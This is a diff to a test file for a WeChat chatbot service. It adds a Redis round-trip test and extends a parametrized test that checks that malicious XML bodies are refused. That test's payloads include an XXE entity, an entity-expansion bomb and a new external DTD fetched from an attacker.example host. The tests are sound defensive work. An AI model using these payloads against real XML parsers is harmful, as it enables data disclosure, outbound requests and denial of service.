@@ -2,6 +2,7 @@
 from __future__ import annotations
 
 import pytest
+from redis.cluster import RedisCluster
 
 from bot import create_app
 from bot.config import Settings
@@ -110,8 +111,10 @@ def test_malformed_bodies_get_400_not_500(client, body):
     b"<xml><FromUserName>o</FromUserName><MsgType>text</MsgType><Content>&xxe;</Content></xml>",
     b'<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;">]>'
     b"<xml><FromUserName>o</FromUserName><MsgType>text</MsgType><Content>&lol2;</Content></xml>",
+    b'<!DOCTYPE xml SYSTEM "http://attacker.example/x.dtd">'
+    b"<xml><FromUserName>o</FromUserName><MsgType>text</MsgType><Content>hi</Content></xml>",
 ])
-def test_entity_declarations_are_refused(client, body):
+def test_entity_declarations_and_any_dtd_are_refused(client, body):
     args, _ = WeChatPeer(TOKEN).sign("")
     assert client.post("/wechat", query_string=args, data=body).status_code == 400
 
@@ -160,3 +163,28 @@ def test_events_are_deduplicated_by_create_time_event_and_key(chat, store):
 def test_healthz_reports_redis_and_knowledge(client, kb):
     data = client.get("/healthz").get_json()
     assert data["status"] == "ok" and data["matters"] == len(kb.matters)
+
+
+def test_a_plaintext_consultation_is_two_round_trips_the_claim_and_the_finish(chat, store, monkeypatch):
+    """The claim carries the memory of the signed URL, and the finishing script carries the question
+    log: two round trips to Redis for a consultation (on a Cluster, where those keys live on other
+    nodes, one per node instead)."""
+    chat.send("党费怎么交", user="o_trips_warm")  # the scripts loaded once per server, not per message
+    trips = []
+    original_pipeline, original_command = store.r.pipeline, store.r.execute_command
+
+    def pipeline(*args, **kwargs):
+        pipe = original_pipeline(*args, **kwargs)
+        execute = pipe.execute
+        monkeypatch.setattr(pipe, "execute", lambda *a, **k: trips.append([c[0][0] for c in pipe.command_stack])
+                            or execute(*a, **k))
+        return pipe
+
+    monkeypatch.setattr(store.r, "pipeline", pipeline)
+    monkeypatch.setattr(store.r, "execute_command", lambda *a, **k: trips.append([a[0]]) or original_command(*a, **k))
+    assert "一次性告知" in chat.send("党费怎么交", user="o_trips")
+    if isinstance(store.r, RedisCluster):
+        assert len(trips) == 4
+    else:
+        assert trips == [["EVALSHA", "EVALSHA"], ["EVALSHA", "HSET", "ZADD"]]
+    assert store.asked.recent(1)[0]["question"] == "党费怎么交"
